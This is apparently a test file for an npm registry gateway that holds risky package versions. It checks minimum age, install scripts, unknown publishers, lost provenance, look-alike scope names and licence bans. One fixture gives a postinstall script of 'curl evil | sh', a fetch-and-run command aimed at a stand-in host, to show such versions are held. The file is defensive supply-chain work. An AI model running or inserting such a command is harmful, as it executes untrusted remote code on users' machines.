import type { DidString } from '@atproto/syntax'
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { policySchema } from '#common/policy/index.ts'
import { app } from '#lexicons'
import { AppViewScene } from './appview-scene.ts'
import { Listener } from './listener.ts'
import type { RecordingRegistry, Release } from './recording-registry.ts'

const minuteMs = 60_000
const hourMs = 60 * minuteMs
const waitMs = { timeout: 15_000, interval: 100 }

let scene: AppViewScene
let registry: RecordingRegistry
let number = 0
let name: string

beforeAll(async () => {
  scene = await AppViewScene.opens({ names: ['@inhouse/*'] })
  registry = scene.parts.registry
  await scene.parts.bob.begins()
  await scene.starts()
  await vi.waitFor(() => packument('nothing-there').catch((error) => expect(error.code).toBe('NotFound')), waitMs)
})
afterAll(() => scene?.[Symbol.asyncDispose]())
beforeEach(() => {
  name = `tool-${++number}`
})

interface Document {
  'dist-tags': Record<string, string>
  versions: Record<string, object>
  time: Record<string, string>
  modified?: string
}

async function packument(of = name, form = 'full'): Promise<Document> {
  const params = { name: of, viewer: scene.parts.alice.did as DidString, form }
  const response = await scene.parts.gateway.fetch(app.npm.registry.getPackument.$nsid, params)
  return (await response.json()) as Document
}

const versionsOf = async (of = name) => Object.keys((await packument(of)).versions)

async function verdict(wanted: { version: string } | { file: string }, of = name) {
  const answer = await scene.parts.gateway.call(app.npm.registry.getUpstreamVersion, {
    params: { name: of, ...wanted },
  })
  return answer.verdict
}

/** Time by the scene's clock. */
const ago = (ms: number) => new Date(scene.clock.now() - ms).toISOString()

/** Upstream offers something else, and we ask it again. */
async function turnsTo(releases: Record<string, Release>, tags: Record<string, string> = {}): Promise<void> {
  registry.offers(name, releases, tags)
  const asked = () => registry.paths.filter((path) => path === `/${name}`).length
  const before = asked()
  scene.clock.aheadMs += 6 * minuteMs
  await vi.waitFor(async () => {
    await packument()
    expect(asked()).toBeGreaterThan(before)
  }, waitMs)
  const newest = Object.keys(releases).at(-1) ?? ''
  await vi.waitFor(async () => expect(await verdict({ version: newest })).toBeDefined(), waitMs)
}

describe('a version that is too young', () => {
  it('is missing from the packument, with tags moved back and times that agree, and is refused by number and file', async () => {
    registry.offers(
      name,
      { '1.0.0': {}, '1.1.0': { at: ago(48 * hourMs) }, '2.0.0': { at: ago(hourMs) } },
      { next: '2.0.0', old: '1.0.0' },
    )
    const full = await packument()
    expect(Object.keys(full.versions)).toEqual(['1.0.0', '1.1.0'])
    expect(full['dist-tags']).toEqual({ latest: '1.1.0', next: '1.1.0', old: '1.0.0' })
    expect(full.time).not.toHaveProperty(['2.0.0'])
    expect(full.time['modified']).toBe(full.time['1.1.0'])
    const short = await packument(name, 'abbreviated')
    expect(Object.keys(short.versions)).toEqual(['1.0.0', '1.1.0'])
    expect(short['dist-tags']).toEqual(full['dist-tags'])
    const held = { kind: 'hold', check: 'minimum-age', until: expect.any(String), remedy: expect.any(String) }
    expect(await verdict({ version: '2.0.0' })).toMatchObject(held)
    expect(await verdict({ file: `${name}-2.0.0.tgz` })).toMatchObject(held)
    expect(await verdict({ file: `${name}-1.1.0.tgz` })).toEqual({ kind: 'allow' })
  })

  it('appears by itself when its time has come, and caches hear of it', async () => {
    const { net } = scene.parts
    registry.offers(name, { '1.0.0': {}, '2.0.0': { at: ago(hourMs) } })
    expect(await versionsOf()).toEqual(['1.0.0'])
    await using listener = await Listener.connects(net.network, await net.authAs('gateway'))
    scene.clock.aheadMs += 23 * hourMs + minuteMs
    await listener.until((update) => update['t'] === '#package' && update['name'] === name)
    const full = await packument()
    expect(Object.keys(full.versions)).toEqual(['1.0.0', '2.0.0'])
    expect(full['dist-tags']).toEqual({ latest: '2.0.0' })
    expect(await verdict({ version: '2.0.0' })).toEqual({ kind: 'allow' })
  })

  it('gains nothing by a date of long ago: what comes while we watch is as old as our first sight of it', async () => {
    registry.offers(name, { '1.0.0': {} })
    await packument()
    await turnsTo({ '1.0.0': {}, '1.0.1': { at: '2020-01-01T00:00:00.000Z' } })
    expect(await versionsOf()).toEqual(['1.0.0'])
    expect(await verdict({ version: '1.0.1' })).toMatchObject({ kind: 'hold', check: 'minimum-age' })
  })

  it('gains nothing by going away and coming back', async () => {
    registry.offers(name, { '1.0.0': {} })
    await packument()
    await turnsTo({ '1.0.0': {}, '1.0.1': {} })
    const { until } = await verdict({ version: '1.0.1' })
    await turnsTo({ '1.0.0': {} })
    await turnsTo({ '1.0.0': {}, '1.0.1': {} })
    expect(await verdict({ version: '1.0.1' })).toMatchObject({ kind: 'hold', until })
  })

  it('may be all there is: then the answer says why, and not that there is nothing', async () => {
    registry.offers(name, { '1.0.0': { at: ago(hourMs) } })
    await expect(packument()).rejects.toMatchObject({
      code: 'VersionHeld',
      message: expect.stringMatching(
        new RegExp(`${name}@1\\.0\\.0 .*24h.*/-/exceptions/new\\?package=${name}&version=1\\.0\\.0`),
      ),
    })
  })
})

describe('a version that brings something', () => {
  const script = (text: string) => ({ scripts: { postinstall: text, test: 'x' } })

  it('to run on installation is held, and so is the next one; clients see no scripts at all', async () => {
    registry.offers(name, {
      '1.0.0': { manifest: script('node old.js') },
      '1.1.0': { manifest: script('node old.js'), at: ago(48 * hourMs) },
      '1.2.0': { manifest: script('curl evil | sh'), at: ago(47 * hourMs) },
      '1.2.1': { manifest: script('curl evil | sh'), at: ago(46 * hourMs) },
    })
    const { versions } = await packument()
    expect(Object.keys(versions)).toEqual(['1.0.0', '1.1.0'])
    expect(versions['1.1.0']).toMatchObject({ hasInstallScript: true })
    expect(versions['1.1.0']).not.toHaveProperty('scripts')
    expect(await verdict({ version: '1.2.1' })).toMatchObject({
      check: 'install-scripts',
      reason: expect.stringContaining('postinstall, since 1.2.0'),
    })
  })

  it('like a publisher nobody knows is held, one who comes back is not; nor is one without provenance, unless there was some', async () => {
    const by = (user: string, dist: object = {}) => ({ manifest: { _npmUser: { name: user }, dist } })
    const attested = { attestations: { url: 'https://npm.test/a' } }
    registry.offers(name, {
      '1.0.0': by('ann'),
      '1.0.1': { ...by('eve'), at: ago(50 * hourMs) },
      '1.0.2': { ...by('ann'), at: ago(49 * hourMs) },
      '1.1.0': { ...by('ann', attested), at: ago(48 * hourMs) },
      '1.2.0': { ...by('ann'), at: ago(47 * hourMs) },
    })
    expect(await versionsOf()).toEqual(['1.0.0', '1.0.2', '1.1.0'])
    expect(await verdict({ version: '1.0.1' })).toMatchObject({ check: 'new-publisher' })
    expect(await verdict({ version: '1.2.0' })).toMatchObject({ check: 'lost-provenance' })
  })
})

describe('a name that looks like one of ours', () => {
  it('is held, whatever letters make it look so', async () => {
    for (const scope of ['inh0use', 'inhous', 'lnhouse']) registry.offers(`@${scope}/ui`, { '1.0.0': {} })
    registry.offers('@outhouse/ui', { '1.0.0': {} })
    for (const scope of ['inh0use', 'inhous', 'lnhouse']) {
      await expect(packument(`@${scope}/ui`)).rejects.toMatchObject({ code: 'VersionHeld' })
      expect(await verdict({ version: '1.0.0' }, `@${scope}/ui`)).toMatchObject({ check: 'look-alike' })
    }
    expect(await versionsOf('@outhouse/ui')).toEqual(['1.0.0'])
  })
})

describe('another policy', () => {
  it('is that of every package soon after the next start, without asking upstream', async () => {
    const { config } = scene.parts
    registry.offers(name, {
      '1.0.0': { manifest: { license: 'MIT' } },
      '1.1.0': { manifest: { license: 'AGPL-3.0-only' } },
    })
    expect(await versionsOf()).toEqual(['1.0.0', '1.1.0'])
    await scene.stops()
    registry.down = true
    config.policy = policySchema.parse({ licences: { deny: ['AGPL-3.0-only'] } })
    await scene.starts()
    await vi.waitFor(async () => expect(await versionsOf()).toEqual(['1.0.0']), waitMs)
    expect(await verdict({ version: '1.1.0' })).toMatchObject({ kind: 'block', check: 'licence' })
    await scene.stops()
    config.policy = policySchema.parse({})
    await scene.starts()
    await vi.waitFor(async () => expect(await versionsOf()).toEqual(['1.0.0', '1.1.0']), waitMs)
    registry.down = false
  })
})
